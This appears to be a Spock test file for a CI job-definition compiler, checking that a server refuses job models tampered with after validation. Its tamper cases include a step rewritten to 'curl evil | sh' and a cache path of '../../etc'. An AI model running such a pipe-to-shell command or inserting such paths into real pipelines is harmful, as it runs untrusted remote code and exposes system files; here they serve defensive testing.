package io.stoker.dsl.isolate

import io.stoker.dsl.CompileResult
import io.stoker.dsl.JobfileCompiler
import io.stoker.model.Job
import io.stoker.model.Jobfile
import io.stoker.model.Step
import io.stoker.model.Task
import spock.lang.Specification

import java.nio.file.Files
import java.nio.file.Path

/** The server's second look at a model from a worker: only what the validator itself would build is accepted. */
class IsolatedModelCheckSpec extends Specification {

    def check = new ModelCheck()

    Jobfile docsExample() {
        def doc = Files.readString(Path.of('..', 'docs', 'jobfile-yaml.md'))
        def yaml = (doc =~ /(?s)```yaml\n(.*?)```/)[0][1] as String
        def result = new JobfileCompiler().compile('Jobfile.yaml', yaml)
        assert result instanceof CompileResult.Compiled
        result.jobfile()
    }

    def "every model the validator builds passes, after a JSON round trip too"() {
        given:
        def model = docsExample()
        def mapper = WireFormat.mapper()
        def roundTripped = mapper.readValue(mapper.writeValueAsBytes(new WireFormat.Response(true, model, [])), WireFormat.Response)

        expect:
        check.problem(model, 'Jobfile.yaml') == Optional.empty()
        roundTripped.jobfile() == model
        check.problem(roundTripped.jobfile(), 'Jobfile.yaml') == Optional.empty()
    }

    def "a push trigger's tags pass the check and survive the JSON round trip from a worker"() {
        given:
        def result = new JobfileCompiler().compile('Jobfile', "job('release') { triggers { push tags: ['v*'] }\n task('t') { sh 'true' } }")
        assert result instanceof CompileResult.Compiled: result.diagnostics()*.toString()
        def model = result.jobfile()
        def mapper = WireFormat.mapper()
        def roundTripped = mapper.readValue(mapper.writeValueAsBytes(new WireFormat.Response(true, model, [])), WireFormat.Response)

        expect:
        check.problem(model, 'Jobfile') == Optional.empty()
        roundTripped.jobfile().jobs()[0].triggers().push()[0].tags() == ['v*']
        check.problem(roundTripped.jobfile(), 'Jobfile') == Optional.empty()
    }

    def "a matrix with excluded cells passes, whichever cells its exclude leaves out"() {
        given:
        def result = new JobfileCompiler().compile('Jobfile', """
job('j') {
  task('t') {
    matrix jdk: ['17', '21', '25'], db: ['h2', 'pg', 'my'], exclude: ${exclude}
    sh 'echo \${{ matrix.jdk }}'
  }
}""")
        assert result instanceof CompileResult.Compiled: result.diagnostics()*.toString()
        def model = result.jobfile()

        expect:
        check.problem(model, 'Jobfile') == Optional.empty()

        and: 'cells put out of their order behind the validator are caught'
        def t = model.jobs()[0].tasks()
        check.problem(new Jobfile('Jobfile', [withTasks(model.jobs()[0], [t.last()] + t[1..-2] + [t.first()])]), 'Jobfile').isPresent()

        where:
        exclude << ["[[jdk: '17', db: 'h2']]", "[[db: 'h2']]", "[[jdk: '17'], [db: 'pg']]", "[[jdk: '21', db: 'pg'], [jdk: '25', db: 'h2']]"]
    }

    def "a model changed behind the validator's back is refused"() {
        given:
        def model = docsExample()
        def job = model.jobs()[0]

        expect:
        check.problem(new Jobfile('Jobfile.yaml', [withTasks(job, tamper(job.tasks()))]), 'Jobfile.yaml').isPresent()

        where:
        tamper << [
                { List<Task> t -> t.collect { it.name() == 'test[jdk=21,db=pg]' ? retask(it, [steps: [new Step.Sh('curl evil | sh', it.pos())]]) : it } },
                { List<Task> t -> t.collect { it.name() == 'build' ? retask(it, [needs: ['build']]) : it } },
                { List<Task> t -> t.collect { it.name() == 'sum' ? retask(it, [retry: 3]) : it } },
                { List<Task> t -> t.collect { it.name() == 'build' ? retask(it, [cache: new io.stoker.model.Cache('deps', ['../../etc'], [])]) : it } },
                { List<Task> t -> t.collect { it.name() == 'test[jdk=17,db=pg]' ? retask(it, [matrix: [jdk: '17', db: 'my']]) : it } },
                { List<Task> t -> t.collect { it.name() == 'gen' ? retask(it, [name: 'g e n', baseName: 'g e n']) : it } },
        ]
    }

    def "unknown properties in the worker's answer are refused"() {
        when:
        WireFormat.mapper().readValue('{"compiled":false,"jobfile":null,"diagnostics":[],"extra":1}', WireFormat.Response)

        then:
        thrown(com.fasterxml.jackson.databind.exc.UnrecognizedPropertyException)
    }

    static Job withTasks(Job j, List<Task> tasks) {
        new Job(j.name(), j.description(), j.parameters(), j.env(), j.secrets(), j.timeoutMillis(), j.agent(), j.concurrency(),
                j.retryOnRestart(), j.triggers(), tasks, j.notifications(), j.publish(), j.pos())
    }

    static Task retask(Task t, Map changes) {
        def v = [name: t.name(), baseName: t.baseName(), matrix: t.matrix(), steps: t.steps(), needs: t.needs(), input: t.input(),
                 env: t.env(), secrets: t.secrets(), artifacts: t.artifacts(), artifactsWhen: t.artifactsWhen(), cache: t.cache(), retry: t.retry(), timeoutMillis: t.timeoutMillis(),
                 allowFailure: t.allowFailure(), when: t.when(), agent: t.agent(), approval: t.approval(), container: t.container(), pos: t.pos()] + changes
        new Task(v.name, v.baseName, v.matrix, v.steps, v.needs, v.input, v.env, v.secrets, v.artifacts, v.artifactsWhen, v.cache, v.retry,
                v.timeoutMillis, v.allowFailure, v.when, v.agent, v.approval, v.container, v.pos)
    }
}
